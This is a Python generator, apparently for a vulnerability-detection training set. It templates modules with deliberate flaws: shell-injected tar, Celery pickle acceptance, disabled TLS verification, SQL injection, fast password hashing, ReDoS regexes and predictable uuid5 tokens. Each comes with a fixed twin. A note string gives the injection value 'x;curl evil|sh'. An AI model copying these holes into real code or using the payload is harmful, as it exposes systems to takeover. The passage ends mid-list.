"""Train-only whole-module families on libraries no other family uses (libs-data set): realistic
modules of about 65-115 lines, not web handlers, with exactly one weakness each and a twin that
differs only by the minimal fix.

Covers: a Click backup tool that runs ``tar`` through ``check_output(shell=True)`` with a CI tag
(78); a Celery application configured to accept pickle messages (502); a boto3 S3 housekeeping
script talking to an on-prem endpoint with ``verify=False`` (295); an Airflow TaskFlow DAG that
splices ``dag_run.conf`` into a clickhouse-driver query (89); a Typer operator-account tool that
stores salted SHA-2 password digests (916); pydantic v2 ingest models whose field validator uses
a nested-quantifier regex (1333); a newsletter mailer whose unsubscribe token is a name-based
``uuid5`` (330); and a model-registry client that reads publisher-uploaded manifests with
ruamel.yaml's ``YAML(typ="unsafe")`` (502).
Written without reading the held-out or validation families; every family here goes to train.
"""
from core import Spec, dedent
from module_kit import _clean, _twin, sub
from registry import fam, hardneg


def _w(c):
    w = "note" if c.word == "profile" else c.word
    return w, w.capitalize()


def _opt(c, *blocks):
    """A random non-empty subset of optional blocks, in a random order, joined by blank lines."""
    bs = [dedent(b).strip("\n") for b in blocks if b]
    k = c.rng.randint(1, len(bs))
    return "\n\n\n".join(c.rng.sample(bs, k))


# ---------------- CWE-78: Click backup tool, tar through check_output(shell=True) ----------------

_CLICK_BACKUP = '''
"""Backup tool for the $w service: dumps the database, packs the data directory, ships it offsite."""
from __future__ import annotations

import datetime as dt
import logging
import subprocess
from pathlib import Path

import click

log = logging.getLogger("$w.backup")

DATA_DIR = Path("/srv/$w/data")
BACKUP_ROOT = Path("$root")
KEEP_DAYS = $keep
OFFSITE = "backup@vault.internal:/srv/offsite/$w/"


def _stamp() -> str:
    return dt.datetime.now(dt.timezone.utc).strftime("%Y%m%dT%H%M%SZ")


def dump_database(database: str, out_dir: Path) -> Path:
    """pg_dump in custom format (argument list, no shell)."""
    out = out_dir / f"{database}-{_stamp()}.dump"
    subprocess.run(["pg_dump", "--format=custom", "--file", str(out), database], check=True)
    log.info("dumped %s to %s", database, out)
    return out


def pack(label: str, out_dir: Path) -> Path:
    """Pack the data directory into a gzip tarball named after the label."""
    $archive = out_dir / f"$w-{label}.tar.gz"
    $cmd = f"tar -czf {$archive} -C {DATA_DIR} ."  #@V
    subprocess.check_output($cmd, shell=True)  #@V
    log.info("packed %s", $archive)
    return $archive


def ship(paths: list[Path], dry_run: bool = False) -> None:
    """rsync the new files offsite."""
    argv = ["rsync", "-az", "--partial", *map(str, paths), OFFSITE]
    if dry_run:
        argv.insert(1, "--dry-run")
    subprocess.run(argv, check=True, timeout=3600)


def prune(out_dir: Path, keep_days: int = KEEP_DAYS) -> int:
    """Delete local backups older than ``keep_days``."""
    cutoff = dt.datetime.now().timestamp() - keep_days * 86400
    removed = 0
    for p in out_dir.glob("$w-*"):
        if p.stat().st_mtime < cutoff:
            p.unlink()
            removed += 1
    log.info("pruned %d old backups", removed)
    return removed


@click.group()
@click.option("--verbose", is_flag=True, help="Debug logging.")
def cli(verbose: bool) -> None:
    logging.basicConfig(level=logging.DEBUG if verbose else logging.INFO)


@cli.command()
@click.option("--tag", default="nightly", show_default=True, help="Label for the archive (CI passes the branch).")
@click.option("--database", default="$w", show_default=True)
@click.option("--dry-run", is_flag=True)
def run(tag: str, database: str, dry_run: bool) -> None:
    """Dump, pack and ship one backup."""
    label = f"{tag}-{_stamp()}"  #@S
    BACKUP_ROOT.mkdir(parents=True, exist_ok=True)
    files = [dump_database(database, BACKUP_ROOT), pack(label, BACKUP_ROOT)]
    ship(files, dry_run=dry_run)
    click.echo(f"backup {label} done: {len(files)} files")


$extra


if __name__ == "__main__":
    cli()
'''


@fam("cmdi-click-tar-check-output", "CWE-78", fws=["cli"], n=8, wrap=False)
def cmdi_click_tar(c):
    w, Wc = _w(c)
    archive, cmd = c.pick("archive", "target", "tarball"), c.n("cmd")
    extra = _opt(c, '''
        @cli.command(name="prune")
        @click.option("--keep-days", type=int, default=KEEP_DAYS, show_default=True)
        def prune_cmd(keep_days: int) -> None:
            """Remove old local backups."""
            click.echo(f"removed {prune(BACKUP_ROOT, keep_days)} backups")
    ''', '''
        @cli.command(name="list")
        def list_cmd() -> None:
            """Show local backups, newest first."""
            for p in sorted(BACKUP_ROOT.glob("$w-*"), key=lambda p: p.stat().st_mtime, reverse=True):
                click.echo(f"{p.name}\\t{p.stat().st_size // 1024} KiB")
    ''')
    v = sub(_CLICK_BACKUP.replace("$extra", extra), w=w, root=c.pick("/var/backups/" + w, "/backup/" + w),
            keep=c.pick(7, 14, 30), archive=archive, cmd=cmd)
    s = _twin(v, (f'    {cmd} = f"tar -czf {{{archive}}} -C {{DATA_DIR}} ."  #@V\n'
                  f'    subprocess.check_output({cmd}, shell=True)  #@V\n',
                  f'    {cmd} = ["tar", "-czf", str({archive}), "-C", str(DATA_DIR), "."]\n'
                  f'    subprocess.check_output({cmd})\n'))
    return Spec(v=v, s=s, full=True, fw="cli",
                notes="the --tag option (a CI branch name) is interpolated into a shell command line run with "
                      "shell=True: a tag like 'x;curl evil|sh' runs commands; pass an argument list instead")


@hardneg(4)
def cmdi_click_tar_hn(c):
    spec = cmdi_click_tar(c)
    v = spec.v
    lines = v.split("\n")
    i = next(k for k, l in enumerate(lines) if l.endswith("shell=True)  #@V"))
    archive = lines[i - 2].split("=")[0].strip()
    lines[i] = (f'    subprocess.check_output(f"tar -czf {{shlex.quote(str({archive}))}} '
                f'-C {{shlex.quote(str(DATA_DIR))}} .", shell=True)')
    del lines[i - 1]
    hn = _clean("\n".join(lines)).replace("import logging\n", "import logging\nimport shlex\n", 1)
    return Spec(s=hn, full=True, fw="cli", notes="shell=True, but every interpolated value is shlex.quote()d")


# ---------------- CWE-502: Celery app that accepts pickle messages ----------------

_CELERY_HEAD = '''
"""Celery application for $w processing: broker settings, routing and the worker tasks."""
from __future__ import annotations

import logging
import os

from celery import Celery
from celery.schedules import crontab
from celery.signals import task_failure

log = logging.getLogger(__name__)

app = Celery("$w_tasks", broker=os.environ["CELERY_BROKER_URL"], backend=os.environ.get("CELERY_RESULT_BACKEND"))
'''

_CELERY_UPDATE = '''
app.conf.update(
    task_serializer="$ser",  #@V
    accept_content=$accept,  #@V
    result_serializer="json",
    timezone="UTC",
    enable_utc=True,
    task_acks_late=True,
    worker_prefetch_multiplier=1,
    task_routes={"$w_tasks.render_*": {"queue": "render"}},
    beat_schedule={
        "purge-expired-$ws": {"task": "$w_tasks.purge_expired", "schedule": crontab(minute=0, hour="*/$hours")},
    },
)
'''

_CELERY_OBJECT = '''
class CeleryConfig:
    task_serializer = "$ser"  #@V
    accept_content = $accept  #@V
    result_serializer = "json"
    result_expires = 3600
    task_time_limit = $limit
    task_default_queue = "$w"
    broker_connection_retry_on_startup = True
    beat_schedule = {
        "purge-expired-$ws": {"task": "$w_tasks.purge_expired", "schedule": crontab(minute=30, hour="*/$hours")},
    }


app.config_from_object(CeleryConfig)
'''

_CELERY_TASKS = '''
@app.task(bind=True, max_retries=3, default_retry_delay=30)
def render_$w(self, $w_id: int, fmt: str = "pdf") -> dict:
    """Render one $w and return where the file went."""
    if fmt not in ("pdf", "html"):
        raise ValueError(f"unsupported format {fmt!r}")
    try:
        from $w_app.render import render_file
        path = render_file($w_id, fmt)
    except ConnectionError as exc:
        log.warning("render of %s failed, retrying: %s", $w_id, exc)
        raise self.retry(exc=exc)
    return {"id": $w_id, "path": str(path)}


@app.task
def purge_expired(days: int = $days) -> int:
    """Delete $ws whose retention ran out."""
    from $w_app.store import delete_older_than
    n = delete_older_than(days)
    log.info("purged %d expired $ws", n)
    return n


@task_failure.connect
def report_failure(sender=None, task_id=None, exception=None, **kwargs) -> None:
    """One log line per failed task; the alerting pipeline picks these up."""
    log.error("task %s (%s) failed: %s", getattr(sender, "name", "?"), task_id, type(exception).__name__)


@app.task(rate_limit="$rate/m")
def notify_owner($w_id: int, event: str) -> None:
    from $w_app.notify import send_event
    if event not in {"created", "updated", "deleted"}:
        log.warning("ignoring unknown event %s for %s", event, $w_id)
        return
    send_event($w_id, event)


$extra
'''


@fam("deser-celery-accept-pickle", "CWE-502", fws=["celery"], n=8, wrap=False)
def deser_celery_accept_pickle(c):
    w, Wc = _w(c)
    ser = c.pick("pickle", "pickle")
    accept = c.pick('["pickle", "json"]', '["json", "pickle"]', '["pickle"]',
                    '["application/x-python-serialize", "application/json"]')
    cfg = c.pick(_CELERY_UPDATE, _CELERY_OBJECT)
    extra = _opt(c, '''
        @app.task
        def bulk_reindex(ids: list[int]) -> int:
            """Queue a render for each id, in chunks."""
            for chunk in range(0, len(ids), 100):
                for i in ids[chunk:chunk + 100]:
                    render_$w.delay(i)
            return len(ids)
    ''', '''
        @app.task(ignore_result=True)
        def heartbeat() -> None:
            log.debug("worker alive")
    ''')
    v = sub("\n\n\n".join(x.strip("\n") for x in (_CELERY_HEAD, cfg, _CELERY_TASKS.replace("$extra", extra))),
            w=w, ser=ser, accept=accept, hours=c.pick(1, 2, 6), limit=c.pick(300, 600, 900),
            days=c.pick(30, 90, 365), rate=c.pick(10, 30, 60))
    if "task_serializer = " in v:
        pairs = ((f'    task_serializer = "{ser}"  #@V\n    accept_content = {accept}  #@V\n',
                  '    task_serializer = "json"\n    accept_content = ["json"]\n'),)
    else:
        pairs = ((f'    task_serializer="{ser}",  #@V\n    accept_content={accept},  #@V\n',
                  '    task_serializer="json",\n    accept_content=["json"],\n'),)
    s = _twin(v, *pairs)
    return Spec(v=v, s=s, full=True, fw="celery",
                notes="the worker accepts pickle-serialized messages: anyone who can publish to the broker "
                      "(a shared Redis/RabbitMQ, another service) sends a pickle that runs code on every worker; "
                      "accept only json")


# ---------------- CWE-295: boto3 S3 housekeeping with verify=False ----------------

_S3_HOUSEKEEPING = '''
"""Housekeeping for the $w bucket on the on-prem object store: expire old exports, abort stale uploads."""
from __future__ import annotations

import argparse
import datetime as dt
import logging
import os

import boto3
from botocore.config import Config

log = logging.getLogger("$w.s3-housekeeping")

BUCKET = os.environ.get("$WU_BUCKET", "$w-exports")
ENDPOINT = os.environ.get("S3_ENDPOINT", "https://$host")


def make_client():
    """S3 client for the internal endpoint; credentials come from the default chain."""
    session = boto3.session.Session()
    return session.client(
        "s3",
        endpoint_url=ENDPOINT,
        region_name="us-east-1",
        config=Config(signature_version="s3v4", retries={"max_attempts": $retries, "mode": "standard"}),
        verify=$verify,  #@V
    )


def expired_keys(s3, prefix: str, days: int) -> list[str]:
    """Keys under ``prefix`` last modified more than ``days`` ago."""
    cutoff = dt.datetime.now(dt.timezone.utc) - dt.timedelta(days=days)
    keys = []
    for page in s3.get_paginator("list_objects_v2").paginate(Bucket=BUCKET, Prefix=prefix):
        for obj in page.get("Contents", []):
            if obj["LastModified"] < cutoff:
                keys.append(obj["Key"])
    return keys


def delete_keys(s3, keys: list[str], dry_run: bool) -> int:
    """Delete in batches of 1000 (the DeleteObjects limit)."""
    deleted = 0
    for i in range(0, len(keys), 1000):
        batch = keys[i:i + 1000]
        if dry_run:
            log.info("would delete %d objects", len(batch))
            continue
        resp = s3.delete_objects(Bucket=BUCKET, Delete={"Objects": [{"Key": k} for k in batch], "Quiet": True})
        for err in resp.get("Errors", []):
            log.warning("could not delete %s: %s", err["Key"], err["Message"])
        deleted += len(batch) - len(resp.get("Errors", []))
    return deleted


$extra


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--prefix", default="exports/")
    parser.add_argument("--days", type=int, default=$days)
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO)
    s3 = make_client()
    n = delete_keys(s3, expired_keys(s3, args.prefix, args.days), args.dry_run)
    log.info("deleted %d expired objects from %s", n, BUCKET)
    $call
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
'''


@fam("tls-boto3-endpoint-verify-false", "CWE-295", fws=["script", "cli"], n=8, wrap=False)
def tls_boto3_verify(c):
    w, Wc = _w(c)
    abort = '''
        def abort_stale_uploads(s3, hours: int = 24) -> int:
            """Abort multipart uploads that were started more than ``hours`` ago."""
            cutoff = dt.datetime.now(dt.timezone.utc) - dt.timedelta(hours=hours)
            aborted = 0
            for up in s3.list_multipart_uploads(Bucket=BUCKET).get("Uploads", []):
                if up["Initiated"] < cutoff:
                    s3.abort_multipart_upload(Bucket=BUCKET, Key=up["Key"], UploadId=up["UploadId"])
                    aborted += 1
            return aborted
    '''
    usage = '''
        def bucket_usage(s3, prefix: str = "") -> tuple[int, int]:
            """(object count, total bytes) under a prefix."""
            count = size = 0
            for page in s3.get_paginator("list_objects_v2").paginate(Bucket=BUCKET, Prefix=prefix):
                for obj in page.get("Contents", []):
                    count += 1
                    size += obj["Size"]
            return count, size
    '''
    parts = c.pick("abort", "usage", "both")
    extra = {"abort": abort, "usage": usage, "both": abort + "\n\n" + usage}[parts]
    extra = "\n\n\n".join(dedent(b).strip("\n") for b in extra.split("\n\n\n") if b.strip())
    call = {"abort": 'log.info("aborted %d stale uploads", abort_stale_uploads(s3))',
            "usage": 'log.info("bucket now holds %d objects, %d bytes", *bucket_usage(s3))',
            "both": 'log.info("aborted %d stale uploads", abort_stale_uploads(s3))'}[parts]
    verify = "False"
    v = sub(_S3_HOUSEKEEPING.replace("$extra", extra), w=w, WU=w.upper(),
            host=c.pick("minio.storage.internal:9000", "s3.dc1.internal", "objects.corp.local"),
            retries=c.pick(3, 5, 10), days=c.pick(30, 60, 90), call=call, verify=verify)
    fix = c.pick('        verify=os.environ.get("S3_CA_BUNDLE", True),\n', "")
    s = _twin(v, (f"        verify={verify},  #@V\n", fix))
    return Spec(v=v, s=s, full=True, fw="script",
                notes="the S3 client is built with certificate verification off (verify=False): anyone on the path can impersonate the object store and read the "
                      "signed requests and every object; keep verification on (the CA bundle comes from S3_CA_BUNDLE / AWS_CA_BUNDLE)")


# ---------------- CWE-89: Airflow TaskFlow DAG, dag_run.conf into a clickhouse-driver query ----------------

_AIRFLOW_DAG = '''
"""Daily $w funnel report: aggregates events from ClickHouse and loads them into the reporting DB."""
from __future__ import annotations

import logging
import os

import pendulum
from airflow.decorators import dag, task
from airflow.providers.postgres.hooks.postgres import PostgresHook
from clickhouse_driver import Client

log = logging.getLogger(__name__)

REPORT_TABLE = "reporting.$w_daily_$field"


def clickhouse() -> Client:
    return Client(
        host=os.environ["CLICKHOUSE_HOST"],
        user=os.environ.get("CLICKHOUSE_USER", "airflow"),
        password=os.environ["CLICKHOUSE_PASSWORD"],
        database="events",
        secure=True,
    )


@dag(
    schedule="@daily",
    start_date=pendulum.datetime(2024, 1, 1, tz="UTC"),
    catchup=False,
    params={"$field": "$default", "min_count": 1},
    tags=["$w", "reporting"],
)
def $w_funnel_report():
    @task
    def extract(ds=None, dag_run=None, params=None) -> list[tuple]:
        """Per-day counts for one $field value over the run's date."""
        conf = (dag_run.conf if dag_run else None) or {}
        $val = conf.get("$field", params["$field"])  #@S
        min_count = int(conf.get("min_count", params["min_count"]))
        rows = clickhouse().execute(  #@V
            f"SELECT toDate(ts) AS day, count() AS n, uniqExact(user_id) AS users FROM $tbl "  #@V
            f"WHERE $field = '{$val}' AND toDate(ts) = %(day)s "  #@V
            "GROUP BY day HAVING n >= %(min_count)s ORDER BY day",
            {"day": ds, "min_count": min_count},
        )
        log.info("extracted %d rows for %s", len(rows), ds)
        return [(str(day), $val, n, users) for day, n, users in rows]

    @task
    def load(rows: list[tuple]) -> int:
        """Insert into the reporting table (the hook binds the values)."""
        if not rows:
            return 0
        hook = PostgresHook(postgres_conn_id="reporting")
        hook.insert_rows(table=REPORT_TABLE, rows=rows, target_fields=["day", "$field", "events", "users"])
        return len(rows)

    @task
    def summary(count: int) -> None:
        log.info("loaded %d rows into %s", count, REPORT_TABLE)

    $tasks

    $wiring


$w_funnel_report()
'''


@fam("sqli-clickhouse-airflow-conf", "CWE-89", fws=["pipeline"], n=8, wrap=False)
def sqli_clickhouse_airflow(c):
    w, Wc = _w(c)
    field, default = c.pick(("event_type", "purchase"), ("country", "DE"), ("campaign", "spring_sale"),
                            ("platform", "ios"), ("plan", "pro"))
    val = c.pick("value", "selected", field, "wanted")
    tbl = c.pick("events.raw_events", "events", "analytics.events_local", f"{w}_events")
    fresh = """
    @task
    def check_freshness(max_lag_hours: int = $lag) -> None:
        \"\"\"Warn when the event table is behind (the report would undercount).\"\"\"
        latest = clickhouse().execute("SELECT max(ts) FROM $tbl")[0][0]
        lag = pendulum.now("UTC") - pendulum.instance(latest, tz="UTC")
        if lag.in_hours() > max_lag_hours:
            log.warning("$tbl is %s hours behind", lag.in_hours())
    """
    purge = """
    @task
    def purge_old(keep_days: int = $keep) -> None:
        \"\"\"Drop report rows past the retention window.\"\"\"
        cutoff = pendulum.now("UTC").subtract(days=keep_days).to_date_string()
        PostgresHook(postgres_conn_id="reporting").run("DELETE FROM " + REPORT_TABLE + " WHERE day < %s", parameters=(cutoff,))
    """
    which = c.pick("fresh", "purge", "both", "none")
    blocks = {"fresh": [fresh], "purge": [purge], "both": [fresh, purge], "none": []}[which]
    tasks = "\n".join(dedent(b).strip("\n") + "\n" for b in blocks).strip("\n")
    wiring = {"fresh": "extracted = extract()\n    check_freshness() >> extracted\n    summary(load(extracted))",
              "purge": "summary(load(extract())) >> purge_old()",
              "both": "extracted = extract()\n    check_freshness() >> extracted\n    summary(load(extracted)) >> purge_old()",
              "none": "summary(load(extract()))"}[which]
    body = _AIRFLOW_DAG.replace("    $tasks\n\n", "" if not tasks else "    " + tasks.replace("\n", "\n    ").replace("    \n", "\n") + "\n\n")
    body = body.replace("$wiring", wiring)
    v = sub(body, w=w, field=field, default=default, val=val, tbl=tbl, lag=c.pick(2, 6, 12), keep=c.pick(90, 180, 400))
    s = _twin(v, (f"            f\"WHERE {field} = '{{{val}}}' AND toDate(ts) = %(day)s \"  #@V\n",
                  f"            \"WHERE {field} = %(value)s AND toDate(ts) = %(day)s \"\n"),
              ("  #@V\n", "\n"),
              ('{"day": ds, "min_count": min_count}', f'{{"value": {val}, "day": ds, "min_count": min_count}}'))
    s = s.replace('            f"SELECT toDate', '            "SELECT toDate')
    return Spec(v=v, s=s, full=True, fw="pipeline",
                notes="a value from dag_run.conf (anyone who can trigger the DAG with a config sets it) is "
                      "pasted into the ClickHouse SQL inside quotes; pass it as a %(name)s parameter instead")


@hardneg(3)
def sqli_clickhouse_airflow_hn(c):
    spec = sqli_clickhouse_airflow(c)
    hn = _twin(spec.s, ('            "GROUP BY day HAVING n >= %(min_count)s ORDER BY day",\n',
                        '            f"GROUP BY day HAVING n >= {min_count:d} ORDER BY day",\n'),
               (', "min_count": min_count}', "}"))
    return Spec(s=hn, full=True, fw="pipeline",
                notes="the conf value is bound as %(value)s; only min_count, cast with int() and formatted :d, "
                      "is put into the SQL text")


# ---------------- CWE-916: Typer operator-account tool storing salted SHA-2 digests ----------------

_TYPER_ACCOUNTS = '''
"""Operator accounts for the $w console: create, reset, disable, list (sqlite store)."""
from __future__ import annotations

import hashlib
import hmac
import logging
import os
import sqlite3
from datetime import datetime, timezone

import typer

app = typer.Typer(help="Manage $w console operators")
log = logging.getLogger("$w.operators")

DB_PATH = os.environ.get("$WU_OPERATORS_DB", "/var/lib/$w/operators.db")
SCHEMA = """CREATE TABLE IF NOT EXISTS operators (
    username TEXT PRIMARY KEY, pw_hash TEXT NOT NULL, active INTEGER NOT NULL DEFAULT 1, created TEXT NOT NULL)"""


def connect() -> sqlite3.Connection:
    conn = sqlite3.connect(DB_PATH)
    conn.execute(SCHEMA)
    return conn


def hash_password($pw: str, salt: bytes | None = None) -> str:
    """Return 'salt:digest' (hex) for storage."""
    salt = salt or os.urandom(16)
    $digest = $hashline  #@V
    return f"{salt.hex()}:{$digest}"


def verify_password($pw: str, stored: str) -> bool:
    salt_hex, _, _ = stored.partition(":")
    return hmac.compare_digest(hash_password($pw, bytes.fromhex(salt_hex)), stored)


@app.command()
def create(
    username: str,
    $pw: str = typer.Option(..., prompt=True, hide_input=True, confirmation_prompt=True),
) -> None:
    """Create an operator account."""
    with connect() as conn:
        try:
            conn.execute("INSERT INTO operators (username, pw_hash, created) VALUES (?, ?, ?)",
                         (username, hash_password($pw), datetime.now(timezone.utc).isoformat()))
        except sqlite3.IntegrityError:
            typer.echo(f"operator {username} already exists", err=True)
            raise typer.Exit(code=1)
    typer.echo(f"created {username}")


@app.command()
def reset(
    username: str,
    $pw: str = typer.Option(..., prompt=True, hide_input=True, confirmation_prompt=True),
) -> None:
    """Set a new password for an operator."""
    with connect() as conn:
        cur = conn.execute("UPDATE operators SET pw_hash = ? WHERE username = ?", (hash_password($pw), username))
    if cur.rowcount == 0:
        typer.echo(f"no operator {username}", err=True)
        raise typer.Exit(code=1)
    log.info("password reset for %s", username)


$extra


if __name__ == "__main__":
    app()
'''


@fam("hash-typer-operator-sha2-digest", "CWE-916", fws=["cli"], n=8, wrap=False)
def hash_typer_sha2(c):
    w, Wc = _w(c)
    pw, digest = c.n("pw"), c.pick("digest", "hashed", "hexd")
    alg = c.pick("sha256", "sha512", "sha256", "sha1")
    hashline = c.pick(f"hashlib.{alg}(salt + {pw}.encode()).hexdigest()",
                      f"hashlib.{alg}({pw}.encode() + salt).hexdigest()",
                      f'hashlib.{alg}(salt + {pw}.encode("utf-8")).hexdigest()')
    extra = _opt(c, '''
        @app.command()
        def disable(username: str) -> None:
            """Deactivate an operator without deleting the history."""
            with connect() as conn:
                conn.execute("UPDATE operators SET active = 0 WHERE username = ?", (username,))
            typer.echo(f"disabled {username}")
    ''', '''
        @app.command(name="list")
        def list_operators(show_inactive: bool = False) -> None:
            """Print operators and when they were created."""
            query = "SELECT username, active, created FROM operators ORDER BY username"
            with connect() as conn:
                for username, active, created in conn.execute(query):
                    if active or show_inactive:
                        typer.echo(f"{username:<24} {'active' if active else 'disabled':<9} {created}")
    ''', '''
        @app.command()
        def check(username: str) -> None:
            """Verify a password interactively (support tool)."""
            $pw = typer.prompt("password", hide_input=True)
            with connect() as conn:
                row = conn.execute("SELECT pw_hash FROM operators WHERE username = ?", (username,)).fetchone()
            typer.echo("ok" if row and verify_password($pw, row[0]) else "mismatch")
    ''')
    v = sub(_TYPER_ACCOUNTS.replace("$extra", extra), w=w, WU=w.upper(), pw=pw, digest=digest, hashline=hashline)
    s = _twin(v, (f"    {digest} = {hashline}  #@V\n",
                  f"    {digest} = hashlib.scrypt({pw}.encode(), salt=salt, n=2**14, r=8, p=1, dklen=32).hex()\n"))
    return Spec(v=v, s=s, full=True, fw="cli",
                notes=f"operator passwords are stored as one salted {alg} digest: a fast hash, so a leaked "
                      "database is brute-forced at billions of guesses per second; use a slow KDF (scrypt)")


# ---------------- CWE-1333: pydantic v2 ingest model, nested-quantifier validator regex ----------------

_PYDANTIC_MODELS = '''
"""Ingest schema for $w events: pydantic v2 models and the entry point that validates incoming batches."""
from __future__ import annotations

import logging
import re
from datetime import datetime

from pydantic import BaseModel, ConfigDict, Field, ValidationError, field_validator, model_validator

log = logging.getLogger("$w.ingest")

$CONST = re.compile($pattern)  #@V
SOURCES = frozenset({"web", "ios", "android", "backend"})


class $WcEvent(BaseModel):
    model_config = ConfigDict(extra="forbid", str_strip_whitespace=True)

    source: str = Field(min_length=1, max_length=32)
    occurred_at: datetime
    user_id: int | None = None
    $attr: list[str] = Field(default_factory=list, max_length=$maxn)
    amount: float = Field(default=0.0, ge=0)

    @field_validator("source")
    @classmethod
    def known_source(cls, v: str) -> str:
        if v not in SOURCES:
            raise ValueError(f"unknown source {v!r}")
        return v

    @field_validator("$attr")
    @classmethod
    def well_formed(cls, v: list[str]) -> list[str]:
        for item in v:
            if not $CONST.match(item):  #@V
                raise ValueError("malformed $label")
        return v

    @model_validator(mode="after")
    def amount_needs_user(self) -> "$WcEvent":
        if self.amount and self.user_id is None:
            raise ValueError("amount given without user_id")
        return self


class $WcBatch(BaseModel):
    batch_id: str = Field(min_length=8, max_length=64)
    sent_at: datetime | None = None
    events: list[$WcEvent] = Field(max_length=500)

    def totals(self) -> dict[str, float]:
        """Summed amount per source, for the ingest metrics."""
        out: dict[str, float] = {}
        for e in self.events:
            out[e.source] = out.get(e.source, 0.0) + e.amount
        return out


$entry
'''

_PYD_PIPE = '''
def handle(record_value: bytes, sink) -> int:
    """Validate one Kafka record (a batch) and hand the events to the sink; returns events stored."""
    try:
        batch = $WcBatch.model_validate_json(record_value)  #@S
    except ValidationError as exc:
        log.warning("rejected batch: %d errors", exc.error_count())
        return 0
    for event in batch.events:
        sink.write(event.model_dump(mode="json"))
    for source, total in batch.totals().items():
        log.debug("batch %s: %s amount %.2f", batch.batch_id, source, total)
    log.info("stored %d events from %s", len(batch.events), batch.batch_id)
    return len(batch.events)


def run(consumer, sink) -> None:
    for record in consumer:
        handle(record.value, sink)
        consumer.commit()
'''

_PYD_API = '''
from fastapi import FastAPI

app = FastAPI(title="$w ingest")
STORE: list[dict] = []


@app.post("/ingest", status_code=202)
async def ingest(batch: $WcBatch) -> dict:  #@S
    """FastAPI validates the body against the models before this runs."""
    STORE.extend(e.model_dump(mode="json") for e in batch.events)
    for source, total in batch.totals().items():
        log.debug("batch %s: %s amount %.2f", batch.batch_id, source, total)
    log.info("accepted %d events from %s", len(batch.events), batch.batch_id)
    return {"accepted": len(batch.events)}


@app.get("/ingest/stats")
async def stats() -> dict:
    return {"buffered": len(STORE)}
'''

_REDOS = [
    # (attr, label, const, vulnerable pattern, safe pattern)
    ("tags", "tag", "TAG_RE", r'r"^([a-z0-9]+-?)*$"', r'r"^(?:[a-z0-9]+(?:-[a-z0-9]+)*-?)?$"'),
    ("metrics", "metric name", "METRIC_RE", r'r"^([a-z_]+\.?)+$"', r'r"^[a-z_]+(?:\.[a-z_]+)*\.?$"'),
    ("field_keys", "field key", "FIELD_KEY_RE", r'r"^([A-Za-z0-9]+_?)*$"', r'r"^(?:[A-Za-z0-9]+(?:_[A-Za-z0-9]+)*_?)?$"'),
    ("labels", "label", "LABEL_RE", r'r"^(\w+\s?)+$"', r'r"^\w+(?:\s\w+)*\s?$"'),
]


@fam("redos-pydantic-field-validator", "CWE-1333", fws=["fastapi", "pipeline"], n=8, wrap=False)
def redos_pydantic(c):
    w, Wc = _w(c)
    attr, label, const, vpat, spat = c.pick(*_REDOS)
    entry = _PYD_API if c.fw == "fastapi" else _PYD_PIPE
    v = sub(_PYDANTIC_MODELS.replace("$entry", dedent(entry)), w=w, Wc=Wc, attr=attr, label=label,
            CONST=const, pattern=vpat, maxn=c.pick(20, 50, 100))
    if c.fw == "fastapi":
        # the FastAPI import belongs with the other imports
        v = v.replace("\n\nfrom fastapi import FastAPI\n", "\n")
        v = v.replace("from pydantic import", "from fastapi import FastAPI\nfrom pydantic import")
    s = _twin(v, (f"{const} = re.compile({vpat})  #@V\n", f"{const} = re.compile({spat})\n"))
    return Spec(v=v, s=s, full=True, fw=c.fw if c.fw == "fastapi" else "kafka",
                notes=f"the {label} validator's regex nests a quantifier inside a repeated group, so a long "
                      "near-match (many valid characters and one bad one at the end) backtracks exponentially "
                      "and blocks the worker; the fix is an unambiguous pattern")


# ---------------- CWE-330: newsletter mailer, unsubscribe token from uuid5 ----------------

_MAILER = '''
"""$Wc newsletter mailer: builds the weekly digest per subscriber, with one-click unsubscribe links."""
from __future__ import annotations

import logging
import sqlite3
import uuid
from dataclasses import dataclass
from email.message import EmailMessage

log = logging.getLogger("$w.mailer")

SITE = "https://$domain"
SENDER = "$Wc digest <digest@$domain>"


@dataclass
class Subscriber:
    id: int
    email: str
    name: str
    token: str | None


def load_subscribers(conn: sqlite3.Connection) -> list[Subscriber]:
    rows = conn.execute(
        "SELECT id, email, name, unsubscribe_token FROM subscribers WHERE active = 1 ORDER BY id"
    ).fetchall()
    return [Subscriber(*r) for r in rows]


def unsubscribe_token(conn: sqlite3.Connection, sub: Subscriber) -> str:
    """The subscriber's unsubscribe token, created and stored on first use."""
    if sub.token:
        return sub.token
    $tok = $tokline  #@V
    conn.execute("UPDATE subscribers SET unsubscribe_token = ? WHERE id = ?", ($tok, sub.id))
    sub.token = $tok
    return $tok


def unsubscribe(conn: sqlite3.Connection, token: str) -> bool:
    """Called by the /unsubscribe/<token> view: deactivate whoever owns the token."""
    cur = conn.execute("UPDATE subscribers SET active = 0 WHERE unsubscribe_token = ? AND active = 1", (token,))
    conn.commit()
    return cur.rowcount == 1


def build_message(sub: Subscriber, items: list[dict], link: str) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = SENDER
    msg["To"] = sub.email
    msg["Subject"] = f"Your weekly $w digest ({len(items)} new)"
    msg["List-Unsubscribe"] = f"<{link}>"
    msg["Message-ID"] = f"<{uuid.uuid4().hex}@$domain>"
    lines = [f"Hi {sub.name},", ""] + [f"- {i['title']}: {SITE}/$ws/{i['id']}" for i in items]
    msg.set_content("\\n".join(lines + ["", f"Unsubscribe: {link}"]))
    return msg


def build_digest(conn: sqlite3.Connection, items: list[dict]) -> list[EmailMessage]:
    """One message per active subscriber; the outbox worker sends them."""
    out = []
    for sub in load_subscribers(conn):
        link = f"{SITE}/unsubscribe/{unsubscribe_token(conn, sub)}"
        out.append(build_message(sub, items, link))
    conn.commit()
    log.info("built %d digest messages", len(out))
    return out


$extra
'''


@fam("rand-uuid5-unsubscribe-token", "CWE-330", fws=["pipeline", "script"], n=8, wrap=False)
def rand_uuid5_unsub(c):
    w, Wc = _w(c)
    domain = c.pick(f"{w}s.example.com", "news.example.org", f"mail.{w}hub.io")
    tok = c.pick("token", "tok", "unsub")
    tokline = c.pick("uuid.uuid5(uuid.NAMESPACE_URL, f\"{SITE}/unsubscribe/{sub.email}\").hex",
                     "str(uuid.uuid5(uuid.NAMESPACE_DNS, sub.email.lower()))",
                     "uuid.uuid5(uuid.NAMESPACE_OID, f\"{sub.id}:{sub.email}\").hex",
